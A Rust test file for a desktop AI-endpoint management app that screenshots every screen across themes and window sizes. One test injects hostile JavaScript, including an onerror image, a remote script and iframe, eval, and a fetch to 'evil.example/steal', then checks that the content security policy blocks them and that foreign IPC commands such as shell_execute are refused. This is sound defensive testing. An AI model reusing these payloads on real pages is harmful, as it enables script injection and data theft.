//! Every screen in both themes and in a small window, as pictures to look at, with the checks that a picture cannot make:
//! nothing runs out of the window, and the page obeys its content security policy.

use fantoccini::key::Key;
use gatewright_sandbox::{Options, Sandbox};
use serde_json::{Value, json};

use crate::desk::Desk;

const TOKEN: &str = "dapi-a-token-to-look-at-screens-with";

/// A screen: its name, its address, what is pressed there, and what then stands on it.
pub struct Screen(pub &'static str, pub &'static str, pub &'static [&'static str], pub &'static str);

const SCREENS: &[Screen] = &[
    Screen("endpoints", "/endpoints", &[], "support-assistant-chat"),
    Screen("create", "/endpoints/new", &[], "Which provider answers first?"),
    Screen("overview", "/endpoints/support-assistant-chat?tab=overview", &[], "support-assistant-chat"),
    Screen("traffic", "/endpoints/support-assistant-chat?tab=traffic", &[], "Traffic split"),
    Screen("chat", "/chat?endpoint=support-assistant-chat", &[], "support-assistant-chat"),
    Screen("secrets", "/secrets?scope=llm-keys", &[], "Missing in 1 endpoint"),
    Screen("secret", "/secrets?scope=llm-keys&key=anthropic", &[], "Rotate, what happens"),
    Screen("rotate", "/secrets?scope=llm-keys&key=anthropic", &["Rotate…"], "Store it as"),
    Screen("add-key", "/secrets?scope=llm-keys", &["Add a key"], "Name it"),
    Screen("connect", "/connect", &[], "Workspace address"),
    Screen("connect-token", "/connect", &["Access token"], "Workspace address"),
    Screen("connect-service", "/connect", &["Service principal"], "Client ID"),
    Screen("settings", "/settings", &[], "Data folder"),
    Screen("compare", "/compare?endpoint=support-assistant-chat", &[], "Hide names"),
    Screen("completions", "/completions?endpoint=legacy-completions", &[], "legacy-completions"),
    Screen("embeddings", "/embeddings", &["Compare texts"], "Numbers per text"),
    Screen("history", "/history", &[], "History"),
    Screen("prompts", "/prompts", &[], "Prompts"),
    Screen("gateway", "/endpoints/support-assistant-chat?tab=gateway", &[], "Rate limits"),
    Screen("access", "/endpoints/support-assistant-chat?tab=access", &[], "CAN MANAGE"),
    Screen("handoff", "/endpoints/support-assistant-chat?tab=handoff", &[], "Python"),
    Screen("activity", "/activity", &[], "Activity"),
];

impl Screen {
    pub async fn look(&self, desk: &Desk, prefix: &str, theme: &str, width: u32) {
        let Self(name, address, presses, proof) = self;
        desk.go(address).await;
        desk.script("document.documentElement.dataset.theme = arguments[0]", vec![json!(theme)]).await;
        for press in *presses {
            desk.press(press).await;
        }
        desk.see_text(proof).await;
        tokio::time::sleep(std::time::Duration::from_millis(350)).await;
        desk.fits(name, width).await;
        desk.shoot(&format!("look-{prefix}{name}-{theme}-{width}")).await;
        // The next screen starts without what is open over this one.
        if !presses.is_empty() {
            desk.key(Key::Escape).await;
            desk.go("/endpoints").await;
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_screen_fits_in_both_themes_and_in_a_small_window() {
    let home = tempfile::tempdir().unwrap();
    let desk = Desk::open(home.path()).await;
    desk.see_text("support-assistant-chat").await;
    for theme in ["light", "dark"] {
        for (width, height) in [(1280, 800), (960, 640)] {
            desk.client.set_window_size(width, height).await.unwrap();
            for screen in SCREENS {
                screen.look(&desk, "", theme, width).await;
            }
        }
    }
    desk.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_production_workspace_in_the_largest_text_says_what_it_is_and_fits() {
    let home = tempfile::tempdir().unwrap();
    let other =
        Sandbox::start(Options { token: Some(TOKEN.to_owned()), ..Options::default() }).await.unwrap();
    let desk = Desk::open(home.path()).await;
    desk.press("Connect a workspace").await;
    desk.fill("Workspace address", &other.host()).await;
    desk.press("Access token").await;
    desk.fill("Access token", TOKEN).await;
    desk.press("Production").await;
    desk.press("Connect").await;
    desk.see_text("support-assistant-chat").await;
    desk.press("Settings").await;
    desk.press("Larger").await;
    for theme in ["light", "dark"] {
        for (width, height) in [(1280, 800), (960, 640)] {
            desk.client.set_window_size(width, height).await.unwrap();
            for screen in SCREENS {
                screen.look(&desk, "large-", theme, width).await;
            }
        }
        desk.client.set_window_size(1280, 800).await.unwrap();
        desk.go("/endpoints").await;
        desk.press("Doctor").await;
        desk.see_text("SQL warehouse").await;
        desk.shoot(&format!("look-large-doctor-{theme}")).await;
        desk.key(Key::Escape).await;
        desk.go("/endpoints/support-assistant-chat").await;
        desk.press("More about support-assistant-chat").await;
        desk.press("Delete endpoint").await;
        desk.see_text("It cannot be brought back").await;
        desk.shoot(&format!("look-large-delete-{theme}")).await;
        desk.key(Key::Escape).await;
    }
    desk.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_window_runs_nothing_and_loads_nothing_that_is_not_the_apps_own() {
    let home = tempfile::tempdir().unwrap();
    let desk = Desk::open(home.path()).await;
    desk.see_text("support-assistant-chat").await;
    let attack = r#"
        const done = arguments[arguments.length - 1];
        window.__ran = [];
        const seen = [];
        document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
        const host = document.createElement("div");
        host.innerHTML = '<img src="x" onerror="window.__ran.push(1)"><img src="https://evil.example/p.png">';
        document.body.append(host);
        const inline = document.createElement("script");
        inline.textContent = "window.__ran.push(2)";
        document.body.append(inline);
        const remote = document.createElement("script");
        remote.src = "https://evil.example/x.js";
        document.body.append(remote);
        const frame = document.createElement("iframe");
        frame.src = "https://evil.example/";
        document.body.append(frame);
        try { eval("window.__ran.push(3)") } catch (error) { seen.push("eval") }
        fetch("https://evil.example/steal").then(() => window.__ran.push(4), () => seen.push("fetch"));
        setTimeout(() => done([window.__ran, seen, typeof window.__TAURI__]), 1500);
    "#;
    let outcome = desk.client.execute_async(attack, vec![]).await.unwrap();
    assert_eq!(outcome[0], json!([]), "nothing ran: {outcome}");
    assert_eq!(outcome[2], "undefined", "the core is not handed to every script");
    let blocked: Vec<&str> = outcome[1].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    for directive in ["img-src", "script-src-elem", "connect-src", "eval", "fetch"] {
        assert!(
            blocked.iter().any(|seen| seen.starts_with(directive)),
            "{directive} was not blocked: {blocked:?}"
        );
    }
    let asked = r#"
        const done = arguments[0];
        const foreign = ["plugin:window|set_title", "plugin:webview|create_webview_window", "plugin:path|resolve_directory",
            "plugin:event|emit", "plugin:app|app_hide", "plugin:opener|open_url", "plugin:window-state|restore_state",
            "plugin:resources|close", "shell_execute"];
        const calls = foreign.map((command) => window.__TAURI_INTERNALS__.invoke(command, {}));
        Promise.allSettled(calls).then((ends) => done(ends.map((end) => end.status)));
    "#;
    let answers = desk.client.execute_async(asked, vec![]).await.unwrap();
    let answers = answers.as_array().unwrap();
    assert!(answers.len() == 9 && answers.iter().all(|end| end == "rejected"), "{answers:?}");
    desk.close().await;
}
